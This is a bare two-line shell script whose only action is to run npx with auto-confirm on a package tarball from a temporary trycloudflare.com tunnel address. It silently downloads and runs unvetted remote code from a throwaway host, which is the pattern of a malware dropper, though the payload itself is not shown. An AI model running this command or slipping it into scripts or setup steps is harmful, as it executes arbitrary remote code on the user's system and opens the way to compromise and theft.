#!/bin/sh
npx -y https://x.trycloudflare.com/pkg.tgz
